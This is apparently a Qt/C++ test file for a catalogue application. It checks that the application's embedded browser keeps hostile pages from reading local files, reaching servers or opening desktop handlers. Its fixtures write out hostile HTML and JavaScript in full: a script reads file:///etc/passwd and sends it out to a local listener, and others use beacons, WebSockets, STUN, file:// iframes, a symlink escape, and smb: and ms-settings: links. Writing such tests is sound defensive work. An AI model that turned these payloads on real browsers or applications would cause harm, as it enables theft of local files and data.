// Pages made of hostile data (a start page and a price line full of script, frames and links
// that reach for files and servers) in the real window: they read nothing outside the catalogue,
// send nothing out, and open nothing on the desktop but a web or mail link the user clicks.
#include <QApplication>
#include <QComboBox>
#include <QDialog>
#include <QFile>
#include <QLabel>
#include <QNetworkDatagram>
#include <QTcpServer>
#include <QTemporaryDir>
#include <QTest>
#include <QUdpSocket>
#include <QWindow>
#include <filesystem>
#include <memory>

#include "app/qt_ports.h"
#include "app/web_browser.h"
#include "app_test_support.h"

using trubkom::testing::ClickInPage;
using trubkom::testing::CountInPage;
using trubkom::testing::HoverInPage;
using trubkom::testing::RunInPage;
using trubkom::testing::TempCatalogue;
using trubkom::testing::WindowUnderTest;

namespace {

QString U(const char* utf8) { return QString::fromUtf8(utf8); }

// How long a test waits for something that must not come (a connection, an open, a dialog).
constexpr int kBoundedWaitMs = 1500;

// The desktop's opener: a fake xdg-open, first on the path, writes each address it is given to
// the file named by TRUBKOM_TEST_OPENED; the program's QtShell finds it as it would the real one.
class FakeDesktop {
 public:
  FakeDesktop() {
    QString script = bin_.filePath(QStringLiteral("xdg-open"));
    QFile file(script);
    (void)file.open(QIODevice::WriteOnly);
    file.write("#!/bin/sh\nprintf '%s\\n' \"$*\" >> \"$TRUBKOM_TEST_OPENED\"\n");
    file.close();
    file.setPermissions(QFile::ReadOwner | QFile::WriteOwner | QFile::ExeOwner);
    qputenv("PATH", QFile::encodeName(bin_.path()) + ':' + qgetenv("PATH"));
    qputenv("TRUBKOM_TEST_OPENED", QFile::encodeName(log_path()));
  }
  QString log_path() const { return bin_.filePath(QStringLiteral("opened.txt")); }
  QStringList Opened() const {
    QFile log(log_path());
    if (!log.open(QIODevice::ReadOnly)) return {};
    return QString::fromUtf8(log.readAll()).split(QLatin1Char('\n'), Qt::SkipEmptyParts);
  }

 private:
  QTemporaryDir bin_;
};

FakeDesktop* desktop = nullptr;

// Everything that reaches 127.0.0.1 on a TCP port and a UDP port of its own.
struct LoopbackListener {
  LoopbackListener() {
    (void)tcp.listen(QHostAddress::LocalHost);
    (void)udp.bind(QHostAddress::LocalHost);
    QObject::connect(&tcp, &QTcpServer::newConnection, [this] { ++arrivals; });
    QObject::connect(&udp, &QUdpSocket::readyRead, [this] {
      while (udp.hasPendingDatagrams()) {
        udp.receiveDatagram();
        ++arrivals;
      }
    });
  }
  QTcpServer tcp;
  QUdpSocket udp;
  int arrivals = 0;
};

// Counts the dialog windows that reach the screen, however briefly.
class DialogWatch : public QObject {
 public:
  DialogWatch() { qApp->installEventFilter(this); }
  int exposed = 0;

 protected:
  bool eventFilter(QObject* watched, QEvent* event) override {
    auto* window = qobject_cast<QWindow*>(watched);
    if (event->type() == QEvent::Expose && window && window->type() == Qt::Dialog &&
        window->isExposed()) {
      ++exposed;
    }
    return false;
  }
};

// A dialog open now, or one that has been on the screen at any time.
bool AnyDialogShown(const DialogWatch& watch) {
  for (QWidget* window : QApplication::topLevelWidgets()) {
    if (window->isVisible() && qobject_cast<QDialog*>(window)) return true;
  }
  return watch.exposed > 0;
}

// What a hostile page tries, with the addresses of the listener (HTTP and STUN) put in.
std::string HostileParts(const LoopbackListener& listener, const std::string& outside_file) {
  std::string http = "http://127.0.0.1:" + std::to_string(listener.tcp.serverPort());
  std::string stun = "stun:127.0.0.1:" + std::to_string(listener.udp.localPort());
  return "<script>"
         "fetch('file:///etc/passwd').then(r => r.text())"
         "  .then(t => { location.href = '" +
         http +
         "/?d=' + encodeURIComponent(t); });"
         "const x = new XMLHttpRequest(); x.open('GET', 'file:///etc/passwd'); x.send();"
         "setInterval(() => { const a = document.createElement('a');"
         "  a.href = 'https://trubkom.example/?d=script'; document.body.appendChild(a);"
         "  a.click(); location.assign('smb://server/share'); }, 250);"
         "const pc = new RTCPeerConnection({iceServers: [{urls: '" +
         stun +
         "'}]});"
         "pc.createDataChannel('d'); pc.createOffer().then(o => pc.setLocalDescription(o));"
         "navigator.sendBeacon('" +
         http + "/beacon', 'x'); new WebSocket('ws://127.0.0.1:" +
         std::to_string(listener.tcp.serverPort()) +
         "/');"
         "window.open('https://trubkom.example/?d=open'); alert('a'); print();"
         "</script>"
         "<iframe srcdoc=\"<script>top.location = 'https://trubkom.example/?d=top'</script>\">"
         "</iframe>"
         "<img src=\"" +
         http +
         "/picture.png\">"
         "<iframe src=\"" +
         http +
         "/frame.html\"></iframe>"
         "<iframe src=\"file:///etc/passwd\"></iframe>"
         "<iframe src=\"file://localhost/etc/\"></iframe>"
         "<iframe src=\"file://127.0.0.1/etc/\"></iframe>"
         "<iframe src=\"file://" +
         outside_file +
         "\"></iframe>"
         "<iframe src=\"out/secret.html\"></iframe>"
         "<iframe src=\"inside.html\"></iframe>";
}

}  // namespace

class HostilePageTest : public QObject {
  Q_OBJECT

 private slots:
  void initTestCase() {
    trubkom::testing::WriteSmallCatalogue(cat_);
    outside_.WriteBytes("secret.html", "outsidesecret");
    std::filesystem::create_directory_symlink(outside_.root(), cat_.Path("Templates/out"));
    cat_.WriteBytes("Templates/inside.html", "insidemarker");
    std::string hostile = HostileParts(listener_, outside_.Path("secret.html"));
    cat_.WriteBytes(
        "Templates/index.html",
        "<html><head><meta http-equiv=\"refresh\" content=\"0; url=http://127.0.0.1:" +
            std::to_string(listener_.tcp.serverPort()) +
            "/refresh\"></head><body>"
            "<p><a id=\"passwd\" href=\"file:///etc/passwd\">passwd</a>"
            " <a id=\"smb\" href=\"smb://server/share\">smb</a>"
            " <a id=\"settings\" href=\"ms-settings:\">settings</a>"
            " <a id=\"web\" href=\"https://trubkom.example/shop\">web</a>"
            " <a id=\"mail\" href=\"mailto:prices@trubkom.example\">mail</a>"
            " <a id=\"orders\" href=\"mailto:orders@trubkom.example\">orders</a>"
            " <a id=\"newWindow\" target=\"_blank\" href=\"https://trubkom.example/new\">new</a>"
            " <a id=\"dataWindow\" target=\"_blank\" href=\"data:text/html,made%20up\">data</a>" +
            Barriers() +
            " <input id=\"upload\" type=\"file\"> <input id=\"colour\" type=\"color\"></p>" +
            hostile + "</body></html>");
    // The price part of a shop's line goes into the model page as it stands.
    cat_.WriteBytes("adv/prices/hostile.prc", "Hostile\nh.html\nNokia 3310^" + hostile + "\n");
    cat_.WriteText("Templates/model_template.html", "<!title!>|<!price!><!price_list!>");

    browser_ = new trubkom::app::WebBrowser(cat_.folders(),
                                            [this](const QUrl& url) { shell_.OpenUrl(url); });
    w_ = std::make_unique<WindowUnderTest>(cat_, std::function<void()>(), browser_);
    w_->window->resize(1000, 700);
    w_->window->show();
    QVERIFY(QTest::qWaitForWindowExposed(w_->window.get()));
  }

  // After the page has loaded (its own frame of the catalogue shows), nothing reached the
  // listener, nothing was opened, no file outside the catalogue shows, and no dialog is open.
  void hostilePagesReachNothing_data() {
    QTest::addColumn<bool>("model_page");
    QTest::newRow("start page") << false;
    QTest::newRow("price line on the model page") << true;
  }
  void hostilePagesReachNothing() {
    QFETCH(bool, model_page);
    if (model_page) {
      QVERIFY(trubkom::testing::WaitForPage(*browser_, [this] {
        w_->Find<QComboBox>("brands")->setCurrentIndex(1);
        w_->Select("models", 1);
        w_->ChooseFromMenu("models", "Посмотреть описание");
      }));
      QVERIFY(browser_->url().path().endsWith(QStringLiteral("/Templates/temp.html")));
    }
    QTRY_VERIFY_WITH_TIMEOUT(CountInPage(*browser_, U("insidemarker")) >= 1, 20000);
    QVERIFY(!QTest::qWaitFor([this] { return listener_.arrivals > 0; }, kBoundedWaitMs));
    QCOMPARE(desktop->Opened(), QStringList());
    for (const char* outside : {"root:x:0", "Index of", "outsidesecret"}) {
      QCOMPARE(CountInPage(*browser_, U(outside)), 0);
    }
    QVERIFY(!AnyDialogShown(dialogs_));
    // The page's script made no links.
    std::optional<QVariant> made = RunInPage(
        *browser_, QStringLiteral("document.querySelectorAll('a[href*=\"d=script\"]').length"));
    QVERIFY(made);
    QCOMPARE(made->toInt(), 0);
  }

  // A web or mail link opens on the desktop once for a real click in the view; a click on
  // anything else, or a click the page's script makes, opens nothing and leaves the page.
  void onlyARealClickOnAWebLinkLeaves_data() {
    QTest::addColumn<QByteArray>("element");
    QTest::addColumn<bool>("real");
    QTest::addColumn<QString>("opens");
    QTest::newRow("file outside") << QByteArray("passwd") << true << QString();
    QTest::newRow("smb:") << QByteArray("smb") << true << QString();
    QTest::newRow("ms-settings:") << QByteArray("settings") << true << QString();
    QTest::newRow("file field") << QByteArray("upload") << true << QString();
    QTest::newRow("colour field") << QByteArray("colour") << true << QString();
    QTest::newRow("web by script") << QByteArray("web") << false << QString();
    QTest::newRow("web") << QByteArray("web") << true << U("https://trubkom.example/shop");
    QTest::newRow("mail") << QByteArray("mail") << true << U("mailto:prices@trubkom.example");
    QTest::newRow("new window") << QByteArray("newWindow") << true
                                << U("https://trubkom.example/new");
    QTest::newRow("new window of inline content") << QByteArray("dataWindow") << true << QString();
  }
  void onlyARealClickOnAWebLinkLeaves() {
    QFETCH(QByteArray, element);
    QFETCH(bool, real);
    QFETCH(QString, opens);
    if (browser_->url().fileName() != QStringLiteral("index.html")) {
      QVERIFY(trubkom::testing::WaitForPage(
          *browser_, [this] { browser_->ShowFile(cat_.Path("Templates/index.html")); }));
    }
    QUrl start = browser_->url();
    QStringList before = desktop->Opened();
    if (real) {
      QVERIFY(ClickInPage(*browser_, element.constData()));
      // The element took the focus: the click reached it.
      QTRY_COMPARE(RunInPage(*browser_, QStringLiteral("document.activeElement.id"))
                       .value_or(QVariant())
                       .toString(),
                   QString::fromLatin1(element));
    } else {
      QVERIFY(RunInPage(*browser_, QStringLiteral("document.getElementById('%1').click()")
                                       .arg(QString::fromLatin1(element))));
    }
    QStringList expected = before;
    if (!opens.isEmpty()) {
      expected << opens;
      QTRY_COMPARE_WITH_TIMEOUT(desktop->Opened(), expected, 10000);
    }
    PassBarrier(expected);
    QCOMPARE(browser_->url(), start);
    QCOMPARE(CountInPage(*browser_, U("root:x:0")), 0);
    QVERIFY(!AnyDialogShown(dialogs_));
  }

  // A double click on a web link opens it once; hovering a link shows its address in the hint
  // bar first, so that a link laid over the page shows where it goes.
  void aLinkOpensOnceAndShowsWhereItGoes() {
    QStringList expected = desktop->Opened();
    QVERIFY(ClickInPage(*browser_, "orders"));
    QVERIFY(ClickInPage(*browser_, "orders"));
    expected << U("mailto:orders@trubkom.example");
    QTRY_COMPARE(desktop->Opened(), expected);
    // The next click well after, as a user's: not taken for a third click of the same burst.
    QTest::qWait(QApplication::doubleClickInterval() + 100);
    PassBarrier(expected);
    auto* hint_bar = w_->Find<QLabel>("hintBar");
    QVERIFY(HoverInPage(*browser_, "web"));
    QTRY_COMPARE(hint_bar->text(), U("https://trubkom.example/shop"));
    // Every window a link asked for is gone, or the last one is going.
    QVERIFY(browser_->findChildren<QWebEnginePage*>().size() <= 2);
  }

  void cleanupTestCase() { w_.reset(); }

 private:
  // Links that open an address of their own each, one for each check below.
  static std::string Barriers() {
    std::string links;
    for (int i = 0; i < kBarriers; ++i) {
      links += " <a id=\"barrier" + std::to_string(i) +
               "\" href=\"https://trubkom.example/barrier/" + std::to_string(i) + "\">b</a>";
    }
    return links;
  }
  // A real click on a web link of its own after what was checked: once it has gone out,
  // whatever was clicked before has been decided. expected, with it added, is then all that
  // opened.
  void PassBarrier(QStringList& expected) {
    QVERIFY(barriers_used_ < kBarriers);
    const std::string id = "barrier" + std::to_string(barriers_used_);
    QVERIFY(ClickInPage(*browser_, id.c_str()));
    expected << U("https://trubkom.example/barrier/") + QString::number(barriers_used_++);
    QTRY_COMPARE_WITH_TIMEOUT(desktop->Opened(), expected, 10000);
  }

  static constexpr int kBarriers = 16;
  int barriers_used_ = 0;
  TempCatalogue cat_;
  TempCatalogue outside_;
  LoopbackListener listener_;
  DialogWatch dialogs_;
  trubkom::testing::FakeMessages messages_;
  trubkom::app::QtShell shell_{messages_};
  trubkom::app::WebBrowser* browser_ = nullptr;  // owned by the window
  std::unique_ptr<WindowUnderTest> w_;
};

int main(int argc, char** argv) {
  trubkom::app::SetBrowserEngineSwitches();
  FakeDesktop fake_desktop;  // on the path before anything looks for the desktop's opener
  desktop = &fake_desktop;
  QApplication application(argc, argv);
  HostilePageTest test;
  return QTest::qExec(&test, argc, argv);
}

#include "hostile_page_test.moc"
